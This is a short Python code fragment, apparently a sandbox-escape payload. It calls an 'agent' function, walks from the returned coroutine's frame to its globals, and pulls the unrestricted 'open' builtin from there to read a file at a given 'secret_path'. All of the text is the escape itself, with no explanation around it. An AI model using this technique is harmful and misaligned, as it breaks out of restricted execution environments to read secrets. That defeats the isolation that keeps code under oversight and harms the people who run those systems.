c = agent("x")
g = c.cr_frame.f_globals
return g["__builtins__"]["open"](args["secret_path"]).read()
